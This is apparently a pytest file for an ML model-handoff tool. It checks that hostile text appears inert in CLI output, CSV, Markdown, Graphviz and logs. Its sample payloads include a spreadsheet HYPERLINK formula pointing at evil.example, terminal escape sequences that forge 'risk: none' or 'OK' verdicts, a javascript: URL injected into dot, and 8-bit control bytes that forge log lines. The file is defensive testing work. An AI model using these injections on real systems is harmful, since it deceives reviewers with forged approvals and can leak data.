"""Text an analyst (or a model, or a destination) wrote reaches other people's terminals and
spreadsheets inert: control characters shown as escapes, formulas as text, one Markdown line."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import re

import numpy as np
import pandas as pd
from agent_support import raw_connect, read_response
from sklearn.linear_model import LogisticRegression
from support import handoff_cli, push_model, until, wait_checked

from handoff_agent.deploy_cli import review_line
from handoff_agent.outbox_cli import delivery_line
from jupyter_handoff.serving_calls import Deployment

# A column named like a spreadsheet formula, and one that clears the terminal line, returns
# to its start and writes a forged verdict over it.
FORMULA = '=HYPERLINK("http://evil.example/?leak","gender")'
FORGE = "\x1b[2K\rrisk: none\x1b]8;;http://evil.example\x07"
MESSAGE = "fine\r# APPROVED by risk\x1b[8m hidden"


def shown_inert(text: str) -> bool:
    """No escape sequence, bell or CR reaches the screen (text-mode capture reads a CR as a
    newline, so the tests count lines too)."""
    return "\x1b" not in text and "\r" not in text and "\x07" not in text


def _push(agent):
    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(200, 2)), columns=["tenure", "spend"])
    y = (X["tenure"] > 0).astype(int)
    groups = [
        pd.Series(np.where(np.arange(200) % 2, "f", "m"), name=FORMULA),
        pd.Series(np.where(np.arange(200) % 3, "a", "b"), name=FORGE),
    ]
    v = push_model(
        agent, LogisticRegression().fit(X, y), "hostile", X=X, y=y, sensitive=groups,
        message=MESSAGE,
    )  # fmt: skip
    wait_checked(agent, "hostile", v.number)
    return v.number


def test_inventory_csv_and_table_show_hostile_column_names_inert(shared_agent):
    _push(shared_agent)
    out = handoff_cli(shared_agent.env, "inventory", "--agent", "local", "--format", "csv")
    assert out.returncode == 0, out.stdout + out.stderr
    assert shown_inert(out.stdout), out.stdout
    row = next(r for r in csv.DictReader(io.StringIO(out.stdout)) if r["name"] == "hostile")
    assert row["sensitive_attributes"].startswith("'=HYPERLINK("), row
    assert row["serving"] == "at central (--agent central)", row  # where to ask, not "not …"
    assert "\\x1b[2K\\rrisk: none" in row["sensitive_attributes"]
    out = handoff_cli(shared_agent.env, "inventory", "--agent", "local")
    assert out.returncode == 0, out.stdout + out.stderr
    assert shown_inert(out.stdout), out.stdout
    assert "\\x1b[2K\\rrisk: none" in out.stdout


def test_model_card_keeps_a_message_on_its_line_and_prints_no_escapes(shared_agent):
    number = _push(shared_agent)
    out = handoff_cli(shared_agent.env, "report", f"hostile:{number}", "--format", "md")
    assert out.returncode == 0, out.stdout + out.stderr
    assert shown_inert(out.stdout), out.stdout
    line = next(x for x in out.stdout.splitlines() if x.startswith("| message |"))
    assert line == "| message | fine # APPROVED by risk\\\\x1b\\[8m hidden |", line
    assert not any(x.startswith("# APPROVED") for x in out.stdout.splitlines())


def test_history_text_shows_a_message_inert(shared_agent):
    from jupyter_handoff import config, timeline

    _push(shared_agent)
    config._instance = config.Handoff(
        agent_url=shared_agent.url, token=shared_agent.token, auto_start=False
    )
    try:
        text = repr(timeline.history("hostile"))
    finally:
        config._instance = None
    assert shown_inert(text), text
    assert "fine\\r# APPROVED by risk\\x1b[8m hidden" in text


def test_review_and_delivery_lines_show_what_central_quotes_inert():
    """A refusal's message quotes what a model raised; a webhook's error is its answer."""
    entry = {
        "model": "churn",
        "version": 2,
        "stage": "validated",
        "next": "approved",
        "missing": {"reviewer": 1},
        "signoffs": [],
        "verdict": "pass",
        "pushed_by": "alice",
        "since": "2026-12-05T03:50:00",
        "blocked": {"code": "load_test_failed", "message": f"the validation broke: {FORGE}"},
    }
    text = review_line(entry)
    assert shown_inert(text) and len(text.splitlines()) == 2, text
    row = {
        "model": "churn",
        "number": 2,
        "destination": "hook",
        "state": "dead",
        "attempts": 3,
        "last_error": f"HTTP 400: {FORGE}",
    }
    assert shown_inert(delivery_line(row, 0.0))
    view = {  # `jupyter handoff deployment churn`: a conversion's reason quotes the exception
        "slots": [{"slot": "production", "version": 2, "traffic": 100.0}],
        "validations": {"2": {"state": "done", "parity": {"reason": f"convert raised {FORGE}"}}},
    }
    text = repr(Deployment("churn", view))
    assert shown_inert(text) and "no ONNX: convert raised \\x1b[2K\\rrisk" in text, text


def _outside_quotes(dot: str) -> str:
    """What Graphviz reads as syntax: dot with its quoted strings taken out (its scanner takes
    a backslash pair, or an escaped quote, as text)."""
    return re.sub(r'"(?:\\\\|\\"|[^"\\]|\\)*"', '""', dot)


def test_lineage_dot_keeps_a_pushed_trigger_inside_its_quotes(shared_agent, monkeypatch):
    """The trigger a push names (HANDOFF_TRIGGERED_BY, set in the analyst's own kernel) is a
    node id in the dot an engineer renders; it cannot add a javascript: link to the SVG."""
    evil = 'x" [URL="javascript:alert(1)"]; "y'
    monkeypatch.setenv("HANDOFF_TRIGGERED_BY", json.dumps({"trigger": evil, "change": "data"}))
    _push(shared_agent)
    out = handoff_cli(shared_agent.env, "lineage", "--format", "dot", "--agent", "local")
    assert out.returncode == 0, out.stdout + out.stderr
    assert 'trigger:x\\" [URL=\\"javascript' in out.stdout, out.stdout
    assert "URL" not in _outside_quotes(out.stdout), out.stdout


def test_a_watched_source_named_to_forge_a_line_is_listed_inert(shared_agent, tmp_path):
    """Whoever adds a watch names its source; `jupyter handoff watch NAME` shows it to all."""
    _push(shared_agent)
    path = tmp_path / "d\x1b[2K\rrisk: none\x1b[8m.parquet"
    pd.DataFrame({"tenure": [1.0, 2.0], "spend": [3.0, 4.0]}).to_parquet(path)
    out = handoff_cli(shared_agent.env, "watch", "hostile", "--source", str(path))
    assert out.returncode == 0, out.stdout + out.stderr
    out = handoff_cli(shared_agent.env, "watch", "hostile")
    assert out.returncode == 0, out.stdout + out.stderr
    assert shown_inert(out.stdout) and len(out.stdout.splitlines()) == 1, out.stdout
    assert "d\\x1b[2K\\rrisk: none" in out.stdout
    from jupyter_handoff import config, watching

    config._instance = config.Handoff(
        agent_url=shared_agent.url, token=shared_agent.token, auto_start=False
    )
    try:
        listed, graph = repr(watching.watch("hostile")), repr(watching.lineage_graph())
    finally:
        config._instance = None
    for text in (listed, graph):  # %mlops watch NAME, %mlops lineage in a terminal IPython
        assert shown_inert(text) and "d\\x1b[2K\\rrisk: none" in text, text


def test_a_refusal_quoting_a_models_exception_reaches_stderr_inert(tmp_path):
    """Central refuses a sign-off with its load test's reason, which quotes what the model
    raised ("the validation broke: ..."); the CLI prints message and hint a line each."""
    import http.server
    import threading

    class Central(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers["Content-Length"]))
            body = json.dumps(
                {
                    "error": {
                        "code": "load_test_failed",
                        "message": f"churn:2 cannot enter approved (the validation broke: {FORGE})",
                        "hint": "See GET /api/v1/models/churn/versions/2 (validation).",
                    }
                }
            ).encode()
            self.send_response(409)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Central)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        env = {**os.environ, "HANDOFF_TOKEN": "t" * 32, "JUPYTER_RUNTIME_DIR": str(tmp_path)}
        url = f"http://127.0.0.1:{server.server_port}"
        # --to given: the CLI sends it as is (without, it first reads the stage it waits for)
        out = handoff_cli(env, "signoff", "churn:2", "--to", "approved", "--url", url)
    finally:
        server.shutdown()
    assert out.returncode == 1 and not out.stdout, out.stdout + out.stderr
    lines = out.stderr.splitlines()
    assert len(lines) == 2 and shown_inert(out.stderr), out.stderr
    assert lines[0].endswith(
        "(the validation broke: \\x1b[2K\\rrisk: none\\x1b]8;;http://evil.example\\x07)"
    )


def test_verifying_a_forged_dossier_cannot_print_a_forged_ok(tmp_path):
    """Whoever hands IT a dossier wrote every byte of it; what ``verify`` quotes from it (an
    audit entry's action) cannot return to the line start and draw an OK over the FAILED."""
    import zipfile

    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from handoff_agent import dossier, keys

    public = keys.raw(Ed25519PrivateKey.generate().public_key())
    forged_ok = "\r\x1b[2KOK churn:3: ed25519 signature of key 0123; 9 file digests\x1b[8m"
    row = dict.fromkeys(("seq", "time", "actor", "subject", "payload", "prev_hash"), "x")
    row.update(seq=1, action=forged_ok, hash="0" * 64)
    path = tmp_path / "dossier-churn-3.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(dossier.JSON_NAME, json.dumps({"format": dossier.FORMAT, "audit": {"head": {}}}))
        z.writestr(dossier.SIG_NAME, json.dumps({"public_key": base64.b64encode(public).decode()}))
        z.writestr(dossier.AUDIT_NAME, json.dumps({"rows": [row]}))
    out = handoff_cli(dict(os.environ), "dossier", "verify", str(path))
    assert out.returncode == 1, out.stdout + out.stderr
    assert shown_inert(out.stdout) and len(out.stdout.splitlines()) == 1, out.stdout
    assert out.stdout.startswith("FAILED audit") and "\\r\\x1b[2KOK churn:3" in out.stdout


def test_a_prediction_whose_labels_carry_escapes_prints_them_inert():
    """A served model's labels are the values of the y it was trained on."""
    from jupyter_handoff.serving_calls import Prediction

    answer = {"model": "churn", "version": 2, "slot": "production", "request_id": "r1"}
    text = repr(Prediction({**answer, "predictions": ["stay", f"leave{FORGE}"]}))
    assert shown_inert(text) and len(text.splitlines()) == 4, text
    assert "leave\\x1b[2K\\rrisk: none" in text


def test_a_request_naming_controls_is_logged_inert(shared_agent):
    """The access log quotes the request's path. HTTP refuses C0 controls (ESC, CR, LF) in it
    but lets the 8-bit ones through: CSI (what ESC [ is) and NEL, a line break to Python's
    ``splitlines`` and to the log viewers that honour it, here before a forged log line."""
    forged = b"[handoff\xa0INFO]\xa0churn:2\xa0approved"
    path = b"/api/v1/models/x\x9b2K\x9b8m\x85" + forged + b"/versions"
    with raw_connect(shared_agent) as sock:
        sock.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        status = read_response(sock)[0]
    assert 400 <= status < 500
    escaped = "/api/v1/models/x\\x9b2K\\x9b8m\\x85[handoff\xa0INFO]\xa0churn:2\xa0approved"
    log = until(lambda: escaped in shared_agent.read_log() and shared_agent.read_log())
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", log), log
    assert not [line for line in log.splitlines() if line.startswith("[handoff\xa0")], log


def test_the_log_keeps_a_tracebacks_own_lines_and_no_forged_one():
    """An exception may quote someone else's text: its message is one escaped line of the
    traceback, whose own lines (frames, source) stay lines."""
    import logging

    from handoff_agent.logs import FORMAT, InertFormatter

    try:
        raise ValueError(f"no such file {FORGE}\n[handoff INFO] churn:2 approved")
    except ValueError as e:
        exc_info = (type(e), e, e.__traceback__)
    record = logging.LogRecord(
        "handoff_agent", logging.ERROR, __file__, 1, "reading %s failed", (MESSAGE,), exc_info
    )
    lines = InertFormatter(FORMAT).format(record).split("\n")
    assert lines[0] == "[handoff ERROR] reading fine\\r# APPROVED by risk\\x1b[8m hidden failed"
    assert lines[1] == "Traceback (most recent call last):"
    assert any(line.startswith('  File "') for line in lines)
    assert lines[-1] == (
        "ValueError: no such file \\x1b[2K\\rrisk: none\\x1b]8;;http://evil.example\\x07"
        "\\n[handoff INFO] churn:2 approved"
    )
    assert all(shown_inert(line) for line in lines)
